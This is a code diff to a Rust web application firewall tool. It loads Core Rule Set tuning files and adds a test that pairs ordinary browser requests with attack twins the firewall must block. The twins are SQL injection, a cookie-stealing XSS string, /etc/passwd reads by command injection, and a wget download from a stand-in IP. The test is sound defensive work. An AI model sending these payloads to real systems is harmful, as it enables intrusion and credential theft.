@@ -19,7 +19,7 @@ use portcullis_wire::recording::{self, Recording};
 use crate::args::{self, Format};
 use crate::rulebook::{self, Wrong};
 use crate::world::{plain, read_bounded};
-use crate::{Done, Failure, configuration, talk};
+use crate::{Done, Failure, configuration, install, talk};
 
 /// A recording is never larger.
 const RECORDING_BYTES: u64 = 64 * 1024 * 1024;
@@ -189,7 +189,12 @@ fn rules(directory: &Path) -> Result<RuleFiles, Failure> {
     if nested.is_dir() {
         let setups = ["crs-setup.conf", "crs-setup.conf.example"].map(|name| directory.join(name));
         patterns.extend(setups.into_iter().find(|setup| setup.is_file()));
+        // As `rules add` installs it: with its tuning, where that is there.
+        let [before, after] =
+            install::TUNING.map(|(name, _)| directory.join(name)).map(|path| path.is_file().then_some(path));
+        patterns.extend(before);
         patterns.push(nested.join("*.conf"));
+        patterns.extend(after);
     } else {
         patterns.push(directory.join("*.conf"));
     }
@@ -378,6 +383,104 @@ mod tests {
             (Some("pass"), Some(0)),
             "{told}"
         );
+    }
+
+    /// The Core Rule Set of this machine, with our tuning; none where it is not there.
+    fn tuned() -> Option<(tempfile::TempDir, Desk)> {
+        let shared = std::env::var_os("PORTCULLIS_SHARED")
+            .map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"), PathBuf::from);
+        let release = shared.join("crs");
+        if !release.join("rules").is_dir() {
+            talk::say(
+                "skipped: no Core Rule Set; unpack a release as `crs` in the directory that PORTCULLIS_SHARED names",
+            );
+            return None;
+        }
+        let home = tempfile::tempdir().expect("a directory");
+        let flags = args::AddRules {
+            set: "crs".to_owned(),
+            from: release.display().to_string(),
+            sha256: None,
+            config: home.path().join("portcullis.toml"),
+            dry_run: false,
+        };
+        install::add(&flags).unwrap_or_else(|failure| panic!("{failure:?}"));
+        let desk = desk(Some(home.path().join("crs")), false);
+        Some((home, desk))
+    }
+
+    #[test]
+    fn the_tuning_lets_browsers_pass_and_their_evil_twins_not() {
+        let Some((_home, mut desk)) = tuned() else { return };
+        let head = |line: &str, fields: &str| {
+            format!(
+                "{line} HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 \
+                 Firefox/140.0\r\nAccept: */*\r\n{fields}\r\n"
+            )
+        };
+        let post = |kind: &str, body: &str| {
+            let kind = if kind.is_empty() { String::new() } else { format!("Content-Type: {kind}\r\n") };
+            head("POST /beacon", &format!("{kind}Content-Length: {}\r\n", body.len())) + body
+        };
+        let elsewhere = "Referer: https://other.example.net/\r\n";
+        let table: &[(&str, String, String)] = &[
+            (
+                "what a beacon sends",
+                post("text/plain;charset=UTF-8", r#"{"page":"/a=b&c","events":[{"name":"click","at":1}]}"#),
+                post("text/plain;charset=UTF-8", r#"{"page":"1' union select password from users-- -"}"#),
+            ),
+            (
+                "bytes without a type",
+                post("", "\u{1}\u{2}a=b&\u{3}\r\n\u{fffd}"),
+                post("", r#"{"a":{"b":"<script>alert(document.cookie)</script>"}}"#),
+            ),
+            (
+                "a message that is no text",
+                post("application/x-protobuf", "\u{a}\u{1}a=b&\u{3}\r\n\u{fffd}"),
+                post("application/x-protobuf", r#"{"a":"; cat /etc/passwd"}"#),
+            ),
+            (
+                "a semicolon too many",
+                post("application/json; charset=utf-8;", "{}"),
+                post("application/json; x=\"y\" z", "{}"),
+            ),
+            (
+                "a call from another site",
+                head("GET /api?sessionid=1", &format!("{elsewhere}Sec-Fetch-Mode: cors\r\n")),
+                head("GET /api?sessionid=1", elsewhere),
+            ),
+            ("a file by a longer name", head("GET /assets/appConfig.json", ""), head("GET /config.json", "")),
+            (
+                "a directory of scripts",
+                head("GET /?next=/cgi-bin/catalogue", ""),
+                head("GET /?next=/cgi-bin/catalogue;/bin/cat", ""),
+            ),
+            (
+                "JSON within a parameter",
+                head("GET /?s=%7B%22a%22:%22%7B%7D%22%7D", ""),
+                head("GET /?s=%7B%22a%22:%221'+union+select+1,2+from+users--+-%22%7D", ""),
+            ),
+            (
+                "a report of an error",
+                post(
+                    "application/json",
+                    r#"{"log":[{"stack":"Error: no\n at a.b (https://example.org/a.js:1:2)\n at >(https://example.org/b.js)"}]}"#,
+                ),
+                post("application/json", r#"{"log":[{"name":"Error: $(cat /etc/passwd)"}]}"#),
+            ),
+            (
+                "a name that begins like a command",
+                head("GET /?lastLoginType=1", ""),
+                head("GET /?type=;wget+http://192.0.2.1/x", ""),
+            ),
+            ("a change", head("PUT /item/1", "Content-Length: 0\r\n"), head("PROPFIND /item/1", "")),
+        ];
+        for (name, ordinary, attack) in table {
+            let told = looked(&mut desk, ordinary);
+            assert_eq!(told["verdict"], "pass", "{name}: {told:#}");
+            let told = looked(&mut desk, attack);
+            assert_eq!(told["verdict"], "block", "the twin of {name}: {told:#}");
+        }
     }
 
     #[test]
